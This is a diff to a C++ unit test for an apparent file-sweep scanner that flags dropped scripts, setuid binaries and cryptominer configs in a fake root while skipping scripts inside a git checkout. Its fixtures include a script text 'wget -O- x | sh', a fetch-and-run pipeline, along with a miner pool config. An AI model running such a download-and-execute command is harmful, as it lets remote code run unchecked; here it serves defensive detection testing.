@@ -52,6 +52,9 @@ TEST(FileSweep, FindsDroppedHiddenAndSetIdFilesWithoutLeavingTheRoot) {
   test::write_file(root / "usr/local/bin/sushell", elf(2));
   test::write_file(root / "secret/outside", elf(2));
   test::write_file(root / "tmp/d.sh", "#!/bin/sh\npkill -f xmrig\n");
+  test::write_file(root / "tmp/checkout/.git/HEAD", "ref: refs/heads/main\n");  // a developer's clone in /tmp
+  test::write_file(root / "tmp/checkout/bench/gen.sh", "#!/bin/sh\necho 'wget -O- x | sh'\n");
+  fs::permissions(root / "tmp/checkout/bench/gen.sh", fs::perms::owner_all);
   test::write_file(root / "tmp/notes.sh", "#!/bin/sh\necho not executable\n");
   test::write_file(root / "var/tmp/.m/config.json", R"({"pools":[{"url":"pool.example:3333","user":"4Abc"}]})");
   test::write_file(root / "var/tmp/.m/other.json", R"({"name":"not a miner"})");
@@ -81,7 +84,8 @@ TEST(FileSweep, FindsDroppedHiddenAndSetIdFilesWithoutLeavingTheRoot) {
   EXPECT_EQ(r["/usr/local/bin/sushell"]["FileMode"], "4755");
   for (const auto& [path, row] : r) EXPECT_EQ(path.find("outside"), std::string::npos) << path;
   std::sort(sweep.dropped_scripts.begin(), sweep.dropped_scripts.end());
-  EXPECT_EQ(sweep.dropped_scripts, std::vector<std::string>({"/tmp/.x/run.sh", "/tmp/d.sh"}));  // not notes.sh (no x bit)
+  // Not notes.sh (no execute bit), not the checkout's own script (inside a git work tree).
+  EXPECT_EQ(sweep.dropped_scripts, std::vector<std::string>({"/tmp/.x/run.sh", "/tmp/d.sh"}));
   EXPECT_EQ(sweep.miner_configs, std::vector<std::string>({"/var/tmp/.m/config.json"}));
   EXPECT_GT(r["/etc/resolv.conf"]["AgeSeconds"].get<int64_t>(), 0);
 }
